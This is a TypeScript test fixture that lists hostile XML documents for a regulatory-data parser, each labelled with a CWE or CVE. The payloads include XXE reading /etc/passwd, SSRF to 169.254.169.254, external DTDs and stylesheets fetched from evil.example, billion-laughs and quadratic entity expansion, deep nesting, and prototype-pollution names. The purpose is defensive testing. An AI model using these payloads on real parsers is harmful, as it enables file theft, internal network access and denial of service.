import { createHash } from 'node:crypto'
import { type Sealed, seal, v30 } from '@openbeian/regulator'
import type { HostileClass } from '../../platform/process/test-hostile.ts'
import { hostileZips } from './test-hostile-zips.ts'

const xxe = 'OWASP XXE; CWE-611'
const laughs = 'CVE-2003-1564 (libxml2, billion laughs)'
const expat = 'libexpat: CVE-2022-25236, CVE-2022-25313 and their like'
const spec = 'XML 1.0'

/** A zip, or what stands for one, as it would travel. */
export const sealedBytes = (bytes: Buffer): Sealed => ({
  beianInfo: bytes.toString('base64'),
  beianInfoHash: createHash('md5').update(v30.hashed(bytes, '')).digest('base64'),
  encryptAlgorithm: 0,
  hashAlgorithm: 0,
  compressionFormat: 0,
})

const repeat = (part: string, times: number) => part.repeat(times)
const inside = (content: string) => `<DownloadData version="V.3.0">${content}</DownloadData>`
const result = (content: string) =>
  `<ICP><BAJG><Jg_xx><Jgxx><Jgdm>1001</Jgdm></Jgxx><Czlx>1</Czlx>${content}</Jg_xx></BAJG></ICP>`
const declared = (entities: string, content: string) => `<!DOCTYPE DownloadData [${entities}]>${inside(content)}`

interface Row {
  name: string
  source: string
  why: string
  xml: () => string
}

/** What a document can be that is no document. */
const documents: readonly Row[] = [
  {
    name: 'an entity that is a file of this machine',
    source: xxe,
    why: 'a parser may read it',
    xml: () => declared('<!ENTITY a SYSTEM "file:///etc/passwd">', '&a;'),
  },
  {
    name: 'an entity that is an inner address',
    source: xxe,
    why: 'a parser may call it',
    xml: () => declared('<!ENTITY a SYSTEM "http://169.254.169.254/">', '&a;'),
  },
  {
    name: 'an entity of parameters from outside',
    source: xxe,
    why: 'what is declared may come from elsewhere',
    xml: () => declared('<!ENTITY % a SYSTEM "http://evil.example/a.dtd">%a;', ''),
  },
  {
    name: 'a billion laughs',
    source: laughs,
    why: 'ten of ten of ten',
    xml: () =>
      declared(
        `<!ENTITY l0 "lol">${Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${repeat(`&l${at};`, 10)}">`).join('')}`,
        '&l9;',
      ),
  },
  {
    name: 'one long entity named ten thousand times',
    source: 'quadratic blow-up, CVE-2014-3529 (Apache POI)',
    why: 'no entity is inside another',
    xml: () => declared(`<!ENTITY a "${repeat('a', 100_000)}">`, repeat('&a;', 10_000)),
  },
  {
    name: 'an entity that is itself',
    source: laughs,
    why: 'following it never arrives',
    xml: () => declared('<!ENTITY a "&a;">', '&a;'),
  },
  {
    name: 'a document type in other letters',
    source: xxe,
    why: 'a search for the word may not find it',
    xml: () => `<!doctype a><a/>`,
  },
  {
    name: 'a document type behind half a megabyte of comment',
    source: xxe,
    why: 'only the beginning may be searched',
    xml: () => `<!--${repeat('a', 500_000)}-->${declared('<!ENTITY a "b">', '&a;')}`,
  },
  {
    name: 'an inclusion of a file',
    source: 'XInclude; CWE-611',
    why: 'a parser may read it',
    xml: () =>
      inside('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'),
  },
  {
    name: 'a style that is fetched',
    source: 'xml-stylesheet; CWE-918',
    why: 'a parser may fetch it',
    xml: () => `<?xml-stylesheet href="http://evil.example/a.xsl"?>${inside('')}`,
  },
  {
    name: 'a schema that is fetched',
    source: 'xsi:schemaLocation; CWE-918',
    why: 'a parser may fetch it',
    xml: () =>
      '<DownloadData version="V.3.0" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="http://evil.example/a.xsd"/>',
  },
  {
    name: 'eight thousand attributes',
    source: 'found by attacking this product',
    why: 'each was copied with all before it: 47 s',
    xml: () => `<DownloadData ${Array.from({ length: 8000 }, (_, at) => `a${at}="1"`).join(' ')}/>`,
  },
  {
    name: 'a million attributes',
    source: 'CWE-407',
    why: 'the same, longer',
    xml: () => `<DownloadData ${Array.from({ length: 1_000_000 }, (_, at) => `a${at}="1"`).join(' ')}/>`,
  },
  {
    name: 'attributes whose names meet in a table',
    source: 'CVE-2012-0876 (expat, hash collisions)',
    why: 'a table of names becomes a list',
    xml: () =>
      `<DownloadData ${Array.from({ length: 99 }, (_, at) => `${['Aa', 'BB'][at & 1]}${['Aa', 'BB'][(at >> 1) & 1]}${at}="1"`).join(' ')}/>`,
  },
  {
    name: 'the same attribute twice',
    source: spec,
    why: 'which one counts differs between readers',
    xml: () => '<DownloadData version="V.3.0" version="V.9"/>',
  },
  {
    name: 'an attribute of ten megabytes',
    source: 'CWE-400',
    why: 'it is one value',
    xml: () => `<DownloadData version="${repeat('a', 10_000_000)}"/>`,
  },
  {
    name: 'an attribute that is never closed',
    source: 'CWE-1333',
    why: 'an end is looked for to the end',
    xml: () => `<DownloadData version="${repeat('a=', 2_000_000)}`,
  },
  {
    name: 'half a million levels',
    source: expat,
    why: 'who reads them calls himself as often',
    xml: () => repeat('<a>', 500_000),
  },
  {
    name: 'a hundred and one levels, all closed',
    source: 'CWE-674',
    why: 'a valid one ends a reader as well',
    xml: () => `${repeat('<a>', 200)}${repeat('</a>', 200)}`,
  },
  {
    name: 'three million elements',
    source: 'CWE-770',
    why: 'each is an object of two hundred bytes',
    xml: () => inside(repeat('<a/>', 3_000_000)),
  },
  {
    name: 'a million elements with a blank each',
    source: 'CWE-770',
    why: 'blanks are texts',
    xml: () => inside(repeat('<a> </a>', 1_000_000)),
  },
  {
    name: 'two million pieces of text',
    source: 'CWE-407',
    why: 'each is put behind the last',
    xml: () => inside(repeat('a<!---->', 1_000_000)),
  },
  {
    name: 'a million sections of nothing',
    source: spec,
    why: 'each is a piece of text',
    xml: () => inside(repeat('<![CDATA[]]>', 1_000_000)),
  },
  {
    name: 'a section that does not end',
    source: 'CWE-1333',
    why: 'an end is looked for',
    xml: () => inside(repeat('<![CDATA[', 500_000)),
  },
  {
    name: 'comments that begin',
    source: 'CWE-1333',
    why: 'an end is looked for from each',
    xml: () => inside(repeat('<!--', 1_000_000)),
  },
  {
    name: 'comments of nothing but lines',
    source: 'CWE-1333',
    why: 'two lines may not stand together',
    xml: () => inside(`<!--${repeat('- ', 1_000_000)}-->`),
  },
  {
    name: 'instructions that begin',
    source: 'CWE-1333',
    why: 'an end is looked for from each',
    xml: () => inside(repeat('<?a ', 1_000_000)),
  },
  {
    name: 'tags with blanks and no end',
    source: 'CWE-1333',
    why: 'blanks are shared out in every way',
    xml: () => inside(repeat(`<a${repeat(' ', 2000)}`, 500)),
  },
  {
    name: 'a name of five megabytes',
    source: 'CWE-400',
    why: 'it is told in the refusal',
    xml: () => `<${repeat('a', 5_000_000)}/>`,
  },
  {
    name: 'names of letters that look alike',
    source: 'CWE-1007',
    why: 'what is no name we know',
    xml: () => inside('<IСР/>'),
  },
  {
    name: 'names that are properties of every object',
    source: 'CWE-1321 (prototype pollution)',
    why: 'a table of names may be an object',
    xml: () => inside('<__proto__><constructor>1</constructor></__proto__>'),
  },
  {
    name: 'attributes that are properties of every object',
    source: 'CWE-1321 (prototype pollution)',
    why: 'a table of names may be an object',
    xml: () => '<DownloadData __proto__="1" constructor="2" version="V.3.0"/>',
  },
  {
    name: 'letters by numbers that are none',
    source: spec,
    why: 'half a letter, zero, beyond all letters',
    xml: () => inside('&#xD800;&#0;&#x110000;'),
  },
  {
    name: 'a letter by a number of a million digits',
    source: 'CWE-190',
    why: 'digits are read into a number',
    xml: () => inside(`&#${repeat('9', 1_000_000)};`),
  },
  {
    name: 'a million ampersands',
    source: 'CWE-1333',
    why: 'an end is looked for from each',
    xml: () => inside(repeat('&', 1_000_000)),
  },
  {
    name: 'letters XML cannot carry',
    source: spec,
    why: 'what is kept must be sent again',
    xml: () => inside('\u0001\ufffe'),
  },
  {
    name: 'two roots',
    source: spec,
    why: 'which one counts differs between readers',
    xml: () => `${inside('')}${inside('')}`,
  },
  { name: 'text behind the root', source: spec, why: 'it is read by some', xml: () => `${inside('')}&lt;a` },
  {
    name: 'a declaration in the middle',
    source: spec,
    why: 'it may change the coding',
    xml: () => inside('<?xml version="1.0" encoding="UTF-16"?>'),
  },
  {
    name: 'a coding that is not the one it says',
    source: 'CWE-838',
    why: 'what is text in one is markup in another',
    xml: () => `<?xml version="1.0" encoding="UTF-7"?>${inside('+ADw-a/+AD4-')}`,
  },
  {
    name: 'a version nobody knows',
    source: spec,
    why: '1.1 takes other letters',
    xml: () => `<?xml version="1.1"?>${inside('')}`,
  },
  {
    name: 'elements crosswise',
    source: spec,
    why: 'what is closed is not what is open',
    xml: () => inside('<a><b></a></b>'),
  },
  {
    name: 'a name space under every name',
    source: 'CWE-407',
    why: 'prefixes are looked up through all levels',
    xml: () => inside(Array.from({ length: 90 }, (_, at) => `<n${at}:a xmlns:n${at}="u${at}">`).join('')),
  },
  {
    name: 'a result, two hundred thousand times empty',
    source: 'CWE-770',
    why: 'each is a fault to tell',
    xml: () => inside(`<ICP><BAJG>${repeat('<Jg_xx/>', 200_000)}</BAJG></ICP>`),
  },
  {
    name: 'a number of a million digits where a number is wanted',
    source: 'CWE-1333; CVE-2020-10735 (CPython, int)',
    why: 'a long number takes the square of its digits',
    xml: () => inside(result(`<Bs>${repeat('9', 1_000_000)}</Bs>`)),
  },
  {
    name: 'ten megabytes of blanks where a number is wanted',
    source: 'CWE-1333',
    why: 'blanks are trimmed',
    xml: () => inside(result(`<Bs>${repeat(' ', 10_000_000)}</Bs>`)),
  },
  {
    name: 'forty megabytes of one letter',
    source: 'CWE-409',
    why: 'packed it is forty kilobytes',
    xml: () => inside(repeat('a', 40_000_000)),
  },
]

export const hostileDocuments: readonly HostileClass<Sealed>[] = [
  ...documents.map(({ xml, ...row }) => ({
    ...row,
    build: () => seal(xml(), { dialect: { ...v30 } }).catch(() => sealedBytes(Buffer.from(xml()))),
  })),
  ...hostileZips.map(({ build, ...row }) => ({
    ...row,
    build: async (dice: Parameters<typeof build>[0]) => sealedBytes(Buffer.from(await build(dice))),
  })),
]
